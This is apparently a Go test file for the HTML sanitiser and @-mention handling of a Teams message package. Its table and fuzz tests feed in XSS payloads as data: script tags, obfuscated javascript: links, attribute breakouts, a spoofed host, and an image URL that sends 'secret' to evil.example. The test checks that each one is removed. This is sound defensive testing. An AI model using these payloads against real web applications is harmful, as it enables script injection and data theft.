package teams

import (
	"regexp"
	"strings"
	"testing"
)

func TestRich(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ in, want string }{
		"formatting":           {`<p>a <strong>b</strong><br/>c</p>`, `<p>a <strong>b</strong><br>c</p>`},
		"list":                 {`<ul><li>1</li><li>2</li></ul>`, `<ul><li>1</li><li>2</li></ul>`},
		"attributes":           {`<div style="font-size:0" class=x onclick='a()'>t</div>`, `<div>t</div>`},
		"picture":              {`<img src="https://evil.example/?q=secret">t`, `t`},
		"script":               {`a<script>alert("</b>")</script >b`, `ab`},
		"script never closed":  {`a<script>alert(1)`, `a`},
		"style":                {`<STYLE>p{}</STYLE>t`, `t`},
		"split script":         {`<scr<script>ipt>alert(1)</script>t`, `ipt&gt;alert(1)t`},
		"comment":              {`a<!-- <b>x</b> -->b`, `ab`},
		"comment never closed": {`a<!-- x`, `a`},
		"doctype":              {`<!DOCTYPE html><?xml x?>a`, `a`},
		"quote hides the end":  {`<div title="><script>x</script>">t</div>`, `<div>t</div>`},
		"tag never closed":     {`a<div title="b`, `a`},
		"element never closed": {`<b><i>a`, `<b><i>a</i></b>`},
		"wrong order":          {`<b><i>a</b>c</i>`, `<b><i>a</i></b>c`},
		"closed, never opened": {`a</div></table>b`, `ab`},
		"mention of its own":   {`<at id="0">Freya</at>`, `Freya`},
		"attachment":           {`<attachment id="1"></attachment>t`, `t`},
		"smaller":              {`1 < 2 && 3 > 2`, `1 &lt; 2 &amp;&amp; 3 &gt; 2`},
		"entities":             {`&lt;script&gt;&amp;&nbsp;x`, "&lt;script&gt;&amp;\u00a0x"},
		"link":                 {`<a target=_blank href='https://ok.example/a?b=1&amp;c=2'>x</a>`, `<a href="https://ok.example/a?b=1&amp;c=2">x</a>`},
		"mailto":               {`<a href=mailto:ada@example.com>x</a>`, `<a href="mailto:ada@example.com">x</a>`},
		"javascript":           {`<a href="javascript:alert(1)">x</a>`, `x`},
		"javascript, escaped":  {`<a href="&#106;avascript:alert(1)">x</a>`, `x`},
		"javascript, broken":   {"<a href=\"java\nscript:alert(1)\">x</a>", `x`},
		"data":                 {`<a href="data:text/html,x">x</a>`, `x`},
		"no host":              {`<a href="https:///x">x</a>`, `x`},
		"password":             {`<a href="https://teams.microsoft.com@evil.example/">x</a>`, `x`},
		"attribute breakout":   {`<a href='https://a.example/"onclick="x'>x</a>`, `<a href="https://a.example/%22onclick=%22x">x</a>`},
		"href of another name": {`<a data-href="https://a.example/">x</a>`, `x`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := writer{}
			if got := w.write(rich(c.in)); got != c.want {
				t.Errorf("%s\n got %s\nwant %s", c.in, got, c.want)
			}
		})
	}
}

// clean is all that may be markup in what is sent.
var clean = regexp.MustCompile(`^</?[a-z][a-z0-9]*>$|^<a href="(?:https?://|mailto:)[^"<>]*">$`)

func FuzzRich(f *testing.F) {
	f.Add(`<b>a</b><a href="https://ok.example/">x</a>`)
	f.Add(`<<b>>"'<!--><script/><at id=0>`)
	f.Add("<a\thref=https://a.example/\x00>\xff&#x3c;b&gt;")
	tags := regexp.MustCompile(`<[^>]*>?`)
	f.Fuzz(func(t *testing.T, source string) {
		w := writer{}
		out := w.write(rich(source))
		for _, tag := range tags.FindAllString(out, -1) {
			if !clean.MatchString(tag) || strings.HasPrefix(tag, "<at") || strings.HasPrefix(tag, "<script") {
				t.Errorf("%q of %q", tag, source)
			}
		}
	})
}

func TestMentionsInText(t *testing.T) {
	t.Parallel()
	people := []person{
		{id: "1", name: "Ada", given: "Ada"},
		{id: "2", name: "Ada Lindqvist", address: "ada@example.com", given: "ada@example.com"},
		{id: "3", name: "Åsa <b>", given: "Åsa <b>"},
	}
	for text, want := range map[string]string{
		"@Ada and @ada lindqvist":     `<at id="0">Ada</at> and <at id="1">Ada Lindqvist</at>`,
		"@ADA@example.com, hi":        `<at id="0">Ada Lindqvist</at>, hi`,
		"@Adam mail@Ada @ Ada":        "@Adam mail@Ada @ Ada",
		"(@Ada)@Ada":                  `(<at id="0">Ada</at>)<at id="1">Ada</at>`,
		"@åsa <b>!":                   `<at id="0">Åsa &lt;b&gt;</at>!`,
		"@Ad\u00e4 <at id=\"0\">\xff": "@Adä &lt;at id=&#34;0&#34;&gt;\xff",
	} {
		w := &writer{people: people, seen: map[string]bool{}, breaks: true}
		got := w.write([]piece{{text: text}})
		if got != want {
			t.Errorf("%s\n got %s\nwant %s", text, got, want)
		}
		if n := strings.Count(got, "<at id="); n != len(w.mentions) {
			t.Errorf("%s: %d marks, %d mentions", text, n, len(w.mentions))
		}
	}
}
